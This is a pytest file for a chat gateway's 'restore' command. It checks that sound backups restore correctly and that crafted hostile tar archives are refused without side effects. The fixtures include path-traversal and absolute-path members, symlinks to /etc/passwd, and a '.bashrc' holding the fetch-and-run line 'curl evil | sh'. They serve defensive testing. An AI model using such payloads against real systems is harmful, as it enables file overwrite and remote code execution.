"""`chatgate restore ARCHIVE [--force]`, run as an operator runs it (a process of its own), on archives
made by `chatgate backup` and on hostile ones: a good one comes back whole (files 0600, folders 0700,
the scheduled job there again); a home holding state is replaced only with --force, its state moved
aside; a running daemon refuses it, and no daemon starts while it works; every bad archive gets one
line and leaves the home exactly as it was, and nothing is written outside it."""

from __future__ import annotations

import asyncio
import gzip
import io
import os
import signal
import sqlite3
import stat
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Callable

import pytest

from gateway.ops.process import LOCK_NAME, daemon_pid
from tests.harness import eventually, gateway_env


def chatgate(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "gateway", *args], capture_output=True, text=True,
                          env={**os.environ, **gateway_env(home, None)}, timeout=60)


def tree(home: Path) -> dict[str, tuple[int, bytes | None]]:
    """Everything under `home` (the lock's pid file aside: restore, like `run`, takes the lock), with
    its mode and, for a file, its bytes."""
    found: dict[str, tuple[int, bytes | None]] = {}
    for path in sorted(home.rglob("*")):
        info = path.lstat()
        if path.name != LOCK_NAME:
            found[str(path.relative_to(home))] = (stat.S_IMODE(info.st_mode),
                                                  path.read_bytes() if stat.S_ISREG(info.st_mode) else None)
    return found


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A backup of a home with a scheduled job, a config (a link to the file, as some operators keep it),
    a note in memory (and a link there, which the backup leaves out) and a skill."""
    home = tmp_path_factory.mktemp("source") / "home"
    done = chatgate(home, "cron", "add", "standup", "every 30m", "say hello", "--to", "none")
    assert done.returncode == 0, done.stderr
    (home.parent / "chatgate.yaml").write_text("gateway: {tick_seconds: 60}\n")
    (home / "config.yaml").symlink_to(home.parent / "chatgate.yaml")
    (home / "memory").mkdir()
    (home / "memory" / "MEMORY.md").write_text("the user likes short answers\n")
    (home / "memory" / "passwords").symlink_to("/etc/passwd")
    (home / "skills" / "deploy").mkdir(parents=True)
    (home / "skills" / "deploy" / "SKILL.md").write_text("# deploy\n")
    target = home.parent / "backup.tar.gz"
    done = chatgate(home, "backup", str(target))
    assert done.returncode == 0, done.stderr
    return target


def a_home_with_state(path: Path) -> Path:
    """A home holding state of its own (what a restore would replace) and a workspace (what it keeps)."""
    (path / "memory").mkdir(parents=True)
    (path / "state.db").write_bytes(b"the current database")
    (path / "state.db-wal").write_bytes(b"its write-ahead log")
    (path / "config.yaml").write_text("llm: {model: current}\n")
    (path / "memory" / "MEMORY.md").write_text("current memory\n")
    (path / "workspace").mkdir()
    (path / "workspace" / "project.txt").write_text("the agent's work\n")
    return path


def test_a_backup_comes_back_whole_into_a_new_home(archive: Path, tmp_path: Path):
    home = tmp_path / "home"
    done = chatgate(home, "restore", str(archive))
    assert done.returncode == 0, done.stderr
    assert f"restored config.yaml, memory, skills, state.db from {archive} into {home}" in done.stdout
    assert (home / "memory" / "MEMORY.md").read_text() == "the user likes short answers\n"
    assert (home / "config.yaml").read_text() == "gateway: {tick_seconds: 60}\n"
    assert not os.path.lexists(home / "memory" / "passwords")
    for path in home.rglob("*"):
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
    assert not [p for p in home.iterdir() if p.name.startswith(".")]  # its unpacking folder is gone
    listing = chatgate(home, "cron", "list")
    assert "standup" in listing.stdout, listing.stderr


def test_a_home_holding_state_is_replaced_only_with_force_and_its_state_is_kept_aside(archive: Path,
                                                                                       tmp_path: Path):
    home = a_home_with_state(tmp_path / "home")
    before = tree(home)
    refused = chatgate(home, "restore", str(archive))
    assert refused.returncode == 1 and refused.stdout == ""
    assert refused.stderr.strip().splitlines() == [
        f"chatgate restore: {home} already holds chatgate's state (state.db, config.yaml, memory, state.db-wal): "
        "add --force to restore over it (what it replaces is moved aside, not deleted); nothing was changed"]
    assert tree(home) == before

    done = chatgate(home, "restore", str(archive), "--force")
    assert done.returncode == 0, done.stderr
    aside = [p for p in tmp_path.iterdir() if p.name.startswith("home.before-restore-")]
    assert len(aside) == 1 and f"the state it replaced is in {aside[0]}\n" in done.stdout
    assert tree(aside[0]) == {k: v for k, v in before.items() if not k.startswith("workspace")}
    assert (home / "workspace" / "project.txt").read_text() == "the agent's work\n"  # not part of a backup: kept
    assert not (home / "state.db-wal").exists()  # (another database's log never sits beside the restored one)
    assert "standup" in chatgate(home, "cron", "list").stdout


async def test_a_running_daemon_refuses_the_restore_and_the_home_stays_as_it_was(archive: Path, tmp_path: Path):
    home = tmp_path / "home"
    assert chatgate(home, "restore", str(archive)).returncode == 0  # a real home, for a real daemon
    (home / "memory" / "MEMORY.md").write_text("the running daemon's memory\n")
    daemon = await asyncio.create_subprocess_exec(sys.executable, "-m", "gateway", "run",
                                                  env={**os.environ, **gateway_env(home, None)},
                                                  stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL)
    try:
        await eventually(lambda: daemon_pid(home) == daemon.pid, what="the daemon holding its home")
        done = await asyncio.to_thread(chatgate, home, "restore", str(archive), "--force")
        assert done.returncode == 1
        assert done.stderr.strip().splitlines() == [
            f"chatgate restore: chatgate is running on {home} (pid {daemon.pid}): stop it first (`chatgate service "
            "stop`, or Ctrl-C where it runs); nothing was changed"]
        assert daemon.returncode is None  # (it writes its home meanwhile: what the restore would write is looked for)
        assert (home / "memory" / "MEMORY.md").read_text() == "the running daemon's memory\n"
        assert not [p for p in home.iterdir() if p.name.startswith(".")]  # nothing unpacked
        assert sorted(p.name for p in tmp_path.iterdir()) == ["home"]  # nothing set aside
    finally:
        daemon.send_signal(signal.SIGTERM)
        await asyncio.wait_for(daemon.wait(), 30)


async def test_no_daemon_starts_on_the_home_while_the_restore_works(archive: Path, tmp_path: Path):
    """The archive comes through a pipe the test holds: the restore is in the middle of its work (the
    home locked, the archive not yet read) until the test writes it."""
    home = tmp_path / "home"
    pipe = tmp_path / "archive.pipe"
    os.mkfifo(pipe)
    restore = await asyncio.create_subprocess_exec(sys.executable, "-m", "gateway", "restore", str(pipe),
                                                   env={**os.environ, **gateway_env(home, None)},
                                                   stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    try:
        await eventually(lambda: home.exists() and daemon_pid(home) == restore.pid, what="the restore holding the home")
        started = await asyncio.to_thread(chatgate, home, "run")
        assert started.returncode == 75 and "another chatgate is running on" in started.stderr, started.stderr
        await asyncio.to_thread(pipe.write_bytes, archive.read_bytes())
        out, err = await asyncio.wait_for(restore.communicate(), 30)
        assert restore.returncode == 0, err
        assert b"restored config.yaml, memory, skills, state.db" in out
    finally:
        if restore.returncode is None:
            restore.kill()
            await restore.wait()


def tar_gz(*members: tuple[tarfile.TarInfo, bytes | None]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz", format=tarfile.GNU_FORMAT) as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return raw.getvalue()


def member(name: str, data: bytes | None = b"", kind: bytes = tarfile.REGTYPE, link: str = "") -> tuple[
        tarfile.TarInfo, bytes | None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o644
    return info, (data if kind == tarfile.REGTYPE else None)


def database(version: int, *, index_out_of_step: bool = False) -> bytes:
    """A SQLite database at schema `version`; `index_out_of_step`: its index does not match its table
    (what `PRAGMA integrity_check` finds, where SQLite reads every page without an error)."""
    path = Path(f"/tmp/chatgate-test-db-{os.getpid()}-{version}")
    try:
        db = sqlite3.connect(path)
        with db:
            db.execute("CREATE TABLE t (x)")
            db.execute("CREATE INDEX t_x ON t (x)")
            db.executemany("INSERT INTO t VALUES (?)", [(n,) for n in range(500)])
            db.execute(f"PRAGMA user_version = {version}")
        if index_out_of_step:
            with db:
                db.execute("PRAGMA writable_schema = ON")
                db.execute("UPDATE sqlite_master SET sql = 'CREATE INDEX t_x ON t (x DESC)' WHERE name = 't_x'")
        db.close()
        return path.read_bytes()
    finally:
        path.unlink(missing_ok=True)


def huge_member() -> bytes:
    """One header saying state.db holds a petabyte, and none of it: refused before a byte is read."""
    info = tarfile.TarInfo("state.db")
    info.size = 1 << 50
    return gzip.compress(info.tobuf(tarfile.GNU_FORMAT, "utf-8", "surrogateescape") + b"\0" * 512)


def truncated(archive: Path) -> bytes:
    data = archive.read_bytes()
    return data[:len(data) // 2]


def overwritten(archive: Path) -> bytes:
    """The backup with a page of its database overwritten."""
    with tarfile.open(archive) as tar:
        source = tar.extractfile("state.db")
        assert source is not None
        db = bytearray(source.read())
    db[4096 * 3:4096 * 3 + 64] = b"\xff" * 64  # (a b-tree page's header)
    return tar_gz(member("state.db", bytes(db)))


HOSTILE: dict[str, tuple[Callable[[Path], bytes], str]] = {
    "symlink": (lambda a: tar_gz(member("state.db", b""), member("memory/evil", None, tarfile.SYMTYPE, "/etc/passwd")),
                "member 'memory/evil' is a link: a backup holds only files and folders"),
    "hard link": (lambda a: tar_gz(member("memory/x", b"x"), member("memory/y", None, tarfile.LNKTYPE, "memory/x")),
                  "member 'memory/y' is a link"),
    "parent path": (lambda a: tar_gz(member("memory/../../escaped", b"x")), "member 'memory/../../escaped' has a "
                    "path that would not stay in the home"),
    "absolute path": (lambda a: tar_gz(member("/tmp/escaped", b"x")), "has a path that would not stay in the home"),
    "device": (lambda a: tar_gz(member("memory/null", None, tarfile.CHRTYPE)), "is not a regular file or folder"),
    "fifo": (lambda a: tar_gz(member("skills/pipe", None, tarfile.FIFOTYPE)), "is not a regular file or folder"),
    "huge member": (lambda a: huge_member(), "more than the disk has free (member 'state.db' says"),
    "big config": (lambda a: tar_gz(member("config.yaml", b"#" * (2 << 20))), "member 'config.yaml' is 2.1 MB"),
    "stranger": (lambda a: tar_gz(member("state.db", b""), member(".bashrc", b"curl evil | sh")),
                 "member '.bashrc' is not part of a chatgate backup"),
    "folder as database": (lambda a: tar_gz(member("state.db", None, tarfile.DIRTYPE)),
                           "member 'state.db' is not what a backup holds under that name"),
    "not a tar": (lambda a: b"just some text, not an archive\n" * 10, "it is not a complete .tar.gz"),
    "plain tar": (lambda a: gzip.decompress(a.read_bytes()), "it is not a complete .tar.gz"),
    "truncated": (truncated, "it is not a complete .tar.gz"),
    "no database": (lambda a: tar_gz(member("config.yaml", b"llm: {}\n")), "it holds no state.db"),
    "not a database": (lambda a: tar_gz(member("state.db", b"SQLite format 3\0" + b"\x07" * 4000)),
                       "its state.db cannot be read"),
    "overwritten database": (overwritten, "its state.db cannot be read: database disk image is malformed"),
    "damaged database": (lambda a: tar_gz(member("state.db", database(5, index_out_of_step=True))),
                         "its state.db is damaged: row 1 missing from index t_x"),
    "someone else's database": (lambda a: tar_gz(member("state.db", database(0))), "its state.db is not chatgate's"),
    "newer database": (lambda a: tar_gz(member("state.db", database(9999))),
                       "its state.db was made by a newer chatgate (schema version 9999"),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_archive_gets_one_line_and_changes_nothing(archive: Path, tmp_path: Path, kind: str):
    make, says = HOSTILE[kind]
    bad = tmp_path / "bad.tar.gz"
    bad.write_bytes(make(archive))
    home = a_home_with_state(tmp_path / "deep" / "home")
    before = tree(home)
    done = chatgate(home, "restore", str(bad), "--force")
    assert done.returncode == 1 and done.stdout == ""
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"chatgate restore: {bad} is not a sound chatgate backup: "), lines
    assert says in lines[0] and lines[0].endswith("; nothing was changed"), lines[0]
    assert tree(home) == before
    assert sorted(p.name for p in (tmp_path / "deep").iterdir()) == ["home"]  # nothing set aside, nothing escaped
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.tar.gz", "deep"]


def test_a_missing_archive_is_one_line_and_makes_no_home(tmp_path: Path):
    done = chatgate(tmp_path / "home", "restore", str(tmp_path / "nowhere.tar.gz"))
    assert done.returncode == 1 and done.stderr.strip().splitlines() == [
        f"chatgate restore: {tmp_path / 'nowhere.tar.gz'} is not a file this user can read; nothing was changed"]
    assert not (tmp_path / "home").exists()
